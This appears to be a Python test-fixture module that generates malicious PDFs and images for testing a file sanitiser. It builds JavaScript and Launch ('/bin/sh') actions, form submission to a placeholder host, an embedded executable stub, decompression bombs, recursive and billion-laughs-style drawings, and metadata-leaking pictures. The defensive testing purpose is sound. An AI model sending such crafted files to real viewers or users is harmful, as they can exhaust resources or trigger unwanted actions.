"""Files that mean harm, made on the spot: each as small as it can be, and dangerous to whoever trusts it."""

import io
import struct
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.evidence import files

SECRET = "SECRET"  # stands in everything that must not come through
Change = Callable[[pikepdf.Pdf], None]


# --- documents that act -----------------------------------------------------------------------------------------------
def act_everywhere(pdf: pikepdf.Pdf) -> None:
    """Scripts, programs, addresses, files and forms: at the opening, on a page, behind a click."""
    script = Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{SECRET}')"))
    launch = Dictionary(S=Name.Launch, F=String("/bin/sh"))
    visit = Dictionary(S=Name.URI, URI=String(f"http://{SECRET}.example/"))
    send = Dictionary(S=Name.SubmitForm, F=String(f"http://{SECRET}.example/form"))
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.AA = Dictionary(WC=script, WS=launch)
    pdf.pages[0].obj.AA = Dictionary(O=launch, C=script)
    pdf.pages[0].obj.Annots = Array([
        _annotation(pdf, "Link", A=visit), _annotation(pdf, "Link", A=launch), _annotation(pdf, "Link", A=send),
        _annotation(pdf, "FileAttachment", FS=_file(pdf)), _annotation(pdf, "Screen", AA=Dictionary(PO=script)),
    ])  # fmt: skip
    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=[String("a.exe"), _file(pdf)]),
        JavaScript=Dictionary(Names=[String("start"), script]),
    )


def _annotation(pdf: pikepdf.Pdf, kind: str, **keys: Any) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=[0, 0, 50, 50], **keys))


def _file(pdf: pikepdf.Pdf) -> pikepdf.Object:
    stream = pdf.make_stream(f"MZ {SECRET}".encode(), Type=Name.EmbeddedFile)
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream)))


def add_form(pdf: pikepdf.Pdf) -> None:
    """A form whose values a viewer would have to draw, and a second, dynamic form beside it."""
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("amount"), V=String("USD 1234.50"),
        Rect=[40, 400, 300, 440], DA=String("/Helv 18 Tf 0 g"), F=4, P=pdf.pages[0].obj,
    )  # fmt: skip
    widget = pdf.make_indirect(field)
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(
        Fields=[widget], NeedAppearances=True, DA=String("/Helv 0 Tf 0 g"),
        DR=Dictionary(Font=Dictionary(Helv=pdf.make_indirect(font))),
        XFA=pdf.make_stream(f"<xdp:xdp>{SECRET}</xdp:xdp>".encode()),
    )  # fmt: skip


# --- documents that cost ----------------------------------------------------------------------------------------------
def bomb(megabytes: int = 1_000) -> bytes:
    """A page whose drawing unpacks, twice, to so many megabytes."""
    packer, once = zlib.compressobj(9), b""
    for _turn in range(megabytes):
        once += packer.compress(bytes(1_000_000))
    twice = zlib.compress(once + packer.flush(), 9)

    def pack(pdf: pikepdf.Pdf) -> None:
        contents = pdf.make_stream(b"")
        contents.write(twice, filter=Array([Name.FlateDecode, Name.FlateDecode]))
        pdf.pages[0].obj.Contents = contents

    return packed(pack)


def packed(change: Change) -> bytes:
    """A page, saved as tightly packed as it was made."""
    return files.paper(1, change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def huge_image(pdf: pikepdf.Pdf) -> None:
    """A picture of 3.6 thousand million pixels in a few kilobytes."""
    image = pdf.make_stream(zlib.compress(zlib.compress(bytes(45_000_000), 9), 9))
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width, image.Height, image.BitsPerComponent, image.ColorSpace = 60_000, 60_000, 1, Name.DeviceGray
    image.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im=image))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"q 300 0 0 300 40 40 cm /Im Do Q")


def many_pages(pages: int = 20_000) -> bytes:
    """One page, counted very often."""
    return _plain([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, b" ".join(b"%d 0 R" % n for n in range(3, 3 + pages))),
        *(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>" for _page in range(pages)),
    ])  # fmt: skip


def deep(levels: int = 10_000) -> bytes:
    """Arrays inside arrays."""
    nested = b"[" * levels + b"]" * levels
    return _plain([
        b"<</Type/Catalog/Pages 2 0 R/Deep %s>>" % nested,
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<</Deep %s>>>>" % nested,
    ])  # fmt: skip


def page_loop() -> bytes:
    """A tree of pages that is its own child."""
    return _plain([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 5/Kids[2 0 R 2 0 R]>>"])


def _plain(objects: list[bytes]) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the root."""
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, content in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))
    return out.getvalue()


# --- documents that are drawn wrongly ---------------------------------------------------------------------------------
def boxed(*sides: float) -> Change:
    """A page of a size that no paper has."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.MediaBox = Array(list(sides))

    return change


def unbalanced(pdf: pikepdf.Pdf) -> None:
    """A drawing that leaves its state changed, and takes back what it never set."""
    pdf.pages[0].obj.Contents = pdf.make_stream(b"Q Q Q q q 0 0 1 rg 5 0 0 5 0 0 cm 8 8 20 20 re f BT /None 12 Tf")


def _form(pdf: pikepdf.Pdf, content: bytes) -> Any:
    return pdf.make_stream(content, Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])


def loop_of_forms(pdf: pikepdf.Pdf) -> None:
    """Two drawings, each of which draws the other."""
    first, second = (
        pdf.make_stream(b"/Next Do", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9]) for _n in "ab"
    )
    first.Resources, second.Resources = (Dictionary(XObject=Dictionary(Next=other)) for other in (second, first))
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Next=first))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"/Next Do")


def laughing_forms(pdf: pikepdf.Pdf) -> None:
    """A drawing that draws ten others, each of which draws ten others, nine deep: a thousand million in all."""
    form = _form(pdf, b"0 0 1 1 re f")
    for _level in range(9):
        inner, form = form, _form(pdf, b"/Next Do " * 10)
        form.Resources = Dictionary(XObject=Dictionary(Next=inner))
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Next=form))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"/Next Do")


def without_contents(pdf: pikepdf.Pdf) -> None:
    """A page with nothing on it, and another that draws what is not there."""
    del pdf.pages[0].obj["/Contents"]
    pdf.pages[1].obj.Contents = pdf.make_stream(b"/Gone Do")


def with_photo(pdf: pikepdf.Pdf) -> None:
    """A page with a photo that says where it was taken."""
    photo = pdf.make_stream(files.phone_photo())
    photo.Type, photo.Subtype, photo.Filter = Name.XObject, Name.Image, Name.DCTDecode
    photo.Width, photo.Height, photo.BitsPerComponent, photo.ColorSpace = 320, 240, 8, Name.DeviceRGB
    photo.Metadata = pdf.make_stream(f"<x:xmpmeta>{SECRET}</x:xmpmeta>".encode())
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im=photo))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"q 300 0 0 200 40 40 cm /Im Do Q")


def owned() -> bytes:
    """A PDF that its owner locked against printing and copying, and that everybody can open."""
    return files.paper(encryption=pikepdf.Encryption(owner="owner", user="", allow=pikepdf.Permissions(extract=False)))


# --- pictures ---------------------------------------------------------------------------------------------------------
def wide_jpeg() -> bytes:
    """A JPEG that says it is 65,500 pixels wide and high."""
    photo = bytearray(files.phone_photo())
    start = photo.index(b"\xff\xc0")
    photo[start + 5 : start + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(photo)


def talkative_png() -> bytes:
    """A PNG that says where it was taken, in each way that PNG knows."""
    plain, exif = files.encoded(files.picture(), "PNG"), Image.Exif()
    exif[0x010F] = SECRET
    said = files.chunk(b"tEXt", f"Author\0{SECRET}".encode()) + files.chunk(b"eXIf", exif.tobytes()[6:])
    profile = files.chunk(b"iTXt", f"XML:com.adobe.xmp\0\0\0\0\0<x>{SECRET}</x>".encode())
    return plain[:33] + said + profile + plain[33:]


def talkative_webp() -> bytes:
    """A WebP with EXIF and XMP."""
    exif = Image.Exif()
    exif[0x010F] = SECRET
    return files.encoded(files.picture(), "WEBP", exif=exif, xmp=f"<x>{SECRET}</x>".encode())


def profile_bomb() -> bytes:
    """A PNG whose colour profile unpacks to hundreds of megabytes."""
    plain, packed = files.encoded(files.picture(), "PNG"), zlib.compress(bytes(300_000_000), 9)
    return plain[:33] + files.chunk(b"iCCP", b"a\0\0" + packed) + plain[33:]


def many_scans() -> bytes:
    """A progressive JPEG whose last scan comes thousands of times: each is decoded."""
    photo = files.encoded(files.picture((2000, 2000)), "JPEG", progressive=True)
    start, end = photo.rindex(b"\xff\xda"), photo.rindex(b"\xff\xd9")
    return photo[:end] + photo[start:end] * 5_000 + photo[end:]
